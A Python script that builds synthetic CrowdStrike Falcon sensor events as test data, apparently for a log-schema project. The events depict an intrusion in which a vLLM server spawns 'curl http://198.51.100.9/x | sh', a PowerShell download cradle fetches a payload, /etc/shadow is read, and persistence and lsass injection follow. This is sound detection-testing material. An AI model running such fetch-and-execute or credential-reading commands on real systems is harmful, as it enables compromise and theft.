#!/usr/bin/env python3
"""Makes SYNTHETIC records of the CrowdStrike Falcon Data Replicator.

Needs    python3.
Installs nothing.
Writes   schemas/sources/crowdstrike.fdr/testdata/synthetic_fdr.ndjson

Falcon is a paid service with a kernel sensor: nothing is recorded. Names, types
(every value a string) and units follow published samples and field lists.
"""

import synthetic as s


def base(name, i, platform="Lin", **more):
    return {"event_simpleName": name, "name": f"{name}{platform}V6", "aid": "ab12cf409f87ed463b40c368ec45aaaa",
            "cid": "cc15754bcfb5f9152ec7ac90acbbbbbb", "id": f"9f1c2d3e-1111-11f0-bad4-{i:012x}", "aip": "203.0.113.7",
            "event_platform": platform, "timestamp": str(s.ms(i) + 1200), "ContextTimeStamp": f"{s.unix(i):.3f}",
            "ConfigBuild": "1007.8.0010912.1", "ConfigStateHash": "1284133626", "Entitlements": "15",
            "EffectiveTransmissionClass": "2", **more}


def process(i, pid, parent, image, command, parent_name, platform="Lin", **more):
    return base("ProcessRollup2", i, platform, TargetProcessId=pid, ParentProcessId=parent, SourceProcessId=parent,
                RawProcessId=str(56000 + i), ImageFileName=image, CommandLine=command, ParentBaseFileName=parent_name,
                SHA256HashData=s.digest(image), MD5HashData=s.digest(image, 32), SHA1HashData="0" * 40,
                ProcessStartTime=f"{s.unix(i):.3f}", ProcessEndTime="", SessionProcessId=pid, ProcessGroupId=pid, TreeId="4301",
                Tags="27, 40, 874", **more)


VLLM, SHELL, WIN = "38911774195823", "38911778380590", "412316862437"
RECORDS = [
    process(1, VLLM, "38911774100001", "/usr/bin/python3.11", "python3 -m vllm.entrypoints.openai.api_server --model example/chat", "systemd",
            UID="1000", GID="1000", RUID="1000", SVUID="1000"),
    process(2, SHELL, VLLM, "/usr/bin/bash", "bash -c 'curl http://198.51.100.9/x | sh'", "python3.11", UID="1000", GID="1000", RUID="1000", SVUID="1000"),
    process(3, WIN, "412316860000", "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe", "cmd.exe /d /s /c \"whoami /all\"", "node.exe", "Win",
            UserSid="S-1-5-21-1111-2222-3333-1001", UserName="ana", AuthenticationId="999", IntegrityLevel="12288", TokenType="1",
            GrandParentBaseFileName="claude.exe", ParentAuthenticationId="999"),
    base("SyntheticProcessRollup2", 4, TargetProcessId="38911774100001", ParentProcessId="0", RawProcessId="1", ImageFileName="/usr/lib/systemd/systemd",
         CommandLine="/sbin/init", SHA256HashData=s.digest("init"), MD5HashData=s.digest("init", 32), SHA1HashData="0" * 40,
         ProcessStartTime=f"{s.unix(-9000):.3f}", UID="0", GID="0"),
    base("DnsRequest", 5, ContextProcessId=SHELL, DomainName="xmr.pool.example", RequestType="1", ContextBaseFileName="curl", DualRequest="0"),
    base("NetworkConnectIP4", 6, ContextProcessId=SHELL, LocalAddressIP4="192.0.2.12", LocalPort="50112", RemoteAddressIP4="198.51.100.9", RemotePort="80",
         Protocol="6", ConnectionDirection="0", ContextBaseFileName="curl", ConnectionFlags="0"),
    base("NetworkConnectIP6", 7, "Win", ContextProcessId=WIN, LocalAddressIP6="2001:db8::12", LocalPort="50113", RemoteAddressIP6="2001:db8::99", RemotePort="443",
         Protocol="6", ConnectionDirection="0", ContextBaseFileName="node.exe"),
    base("NetworkReceiveAcceptIP4", 8, ContextProcessId=VLLM, LocalAddressIP4="192.0.2.12", LocalPort="8000", RemoteAddressIP4="203.0.113.66", RemotePort="41022",
         Protocol="6", ConnectionDirection="1"),
    base("NetworkListenIP4", 9, ContextProcessId=VLLM, LocalAddressIP4="0.0.0.0", LocalPort="8000", RemoteAddressIP4="0.0.0.0", RemotePort="0", Protocol="6", ConnectionDirection="2"),
    base("NewExecutableWritten", 10, "Win", ContextProcessId=WIN, TargetFileName="\\Device\\HarddiskVolume3\\Users\\ana\\AppData\\Local\\Temp\\x.exe", SHA256HashData=s.digest("x"),
         Size="182272", ContextBaseFileName="cmd.exe", UserName="ana"),
    base("NewScriptWritten", 11, ContextProcessId=SHELL, TargetFileName="/tmp/.x/run.sh", Size="311"),
    base("CriticalFileAccessed", 12, ContextProcessId=SHELL, TargetFileName="/etc/shadow", ContextBaseFileName="cat", UnixMode="33188"),
    base("DirectoryCreate", 13, ContextProcessId=SHELL, TargetFileName="/tmp/.x"),
    base("ClassifiedModuleLoad", 14, "Win", ContextProcessId=WIN, ImageFileName="\\Device\\HarddiskVolume3\\Users\\ana\\evil.dll", SHA256HashData=s.digest("dll"), MD5HashData=s.digest("dll", 32),
         PrimaryModule="0", SignInfoFlags="8683538"),
    base("UserLogon", 15, "Win", UserName="ana", LogonDomain="EXAMPLE", UserSid="S-1-5-21-1111-2222-3333-1001", LogonType="10", LogonServer="DC-1", ClientComputerName="DESKTOP-7",
         AuthenticationPackage="Negotiate", UserIsAdmin="0", RemoteAddressIP4="203.0.113.66", LogonTime=f"{s.unix(15):.3f}"),
    base("UserLogonFailed2", 16, "Win", UserName="administrator", LogonDomain="EXAMPLE", LogonType="3", SubStatus="3221225578", Status="3221225581", RemoteAddressIP4="203.0.113.66",
         ClientComputerName="KALI"),
    base("UserLogoff", 17, "Win", UserName="ana", LogonDomain="EXAMPLE", UserSid="S-1-5-21-1111-2222-3333-1001", LogonType="10", AuthenticationId="999"),
    base("UserAccountAddedToGroup", 18, "Win", UserSid="S-1-5-21-1111-2222-3333-1002", DomainSid="S-1-5-21-1111-2222-3333", GroupRid="00000220", UserRid="000003EA", ContextProcessId=WIN,
         ContextBaseFileName="net.exe"),
    base("CommandHistory", 19, "Win", ContextProcessId=WIN, CommandHistory="whoami /all¶net user /domain", ApplicationName="cmd.exe"),
    base("ScriptControlScanV2", 20, "Win", ContextProcessId=WIN, ScriptContent="IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/p')", ScriptContentName="powershell.exe",
         ContentSHA256HashData=s.digest("script"), ScriptingLanguageId="2", ContextBaseFileName="powershell.exe"),
    base("AsepValueUpdate", 21, "Win", ContextProcessId=WIN, RegObjectName="\\REGISTRY\\MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", RegValueName="updater",
         RegStringValue="C:\\Users\\ana\\x.exe", RegOperationType="1", ContextBaseFileName="reg.exe"),
    base("ScheduledTaskRegistered", 22, "Win", ContextProcessId=WIN, TaskName="\\updater", TaskExecCommand="C:\\Users\\ana\\x.exe", TaskAuthor="EXAMPLE\\ana", UserName="ana"),
    base("EndOfProcess", 23, TargetProcessId=SHELL, RawProcessId="56002", ExitCode="0", SHA256HashData=s.digest("/usr/bin/bash"), ContextProcessId=SHELL),
    base("InjectedThread", 24, "Win", ContextProcessId=WIN, TargetProcessId="412316999999", TargetImageFileName="\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe"),
    base("SensorHeartbeat", 25, NetworkContainmentState="0", SensorStateBitMap="0"),
    {"ExternalApiType": "Event_EppDetectionSummaryEvent", "EventType": "Event_ExternalApiEvent", "eid": "118", "EventUUID": "5b7c", "Nonce": "1",
     "CustomerIdString": "cc15754bcfb5f9152ec7ac90acbbbbbb", "cid": "cc15754bcfb5f9152ec7ac90acbbbbbb", "AgentIdString": "ab12cf409f87ed463b40c368ec45aaaa",
     "UTCTimestamp": str(s.ms(26)), "timestamp": str(s.ms(26)), "Hostname": "gpu-node-3", "UserName": "mlops", "LocalIP": "192.0.2.12", "Name": "ReverseShell",
     "Description": "A process opened a remote shell.", "Severity": "70", "SeverityName": "High", "Objective": "Follow Through", "Tactic": "Execution",
     "Technique": "Command and Scripting Interpreter", "TacticId": "TA0002", "TechniqueId": "T1059", "FileName": "bash", "FilePath": "/usr/bin/bash",
     "CommandLine": "bash -i", "ParentImageFileName": "/usr/bin/python3.11", "ParentCommandLine": "python3 -m vllm.entrypoints.openai.api_server",
     "ProcessId": SHELL, "ParentProcessId": VLLM, "SHA256String": s.digest("/usr/bin/bash"), "CompositeId": "cc15:ind:ab12:346-777-1",
     "PatternDispositionDescription": "Prevention, process killed.", "PatternDispositionValue": "2048",
     "PatternDispositionFlags": "{\"Detect\":true,\"KillProcess\":true}"},
]

if __name__ == "__main__":
    s.write("crowdstrike.fdr", "synthetic_fdr.ndjson", RECORDS)
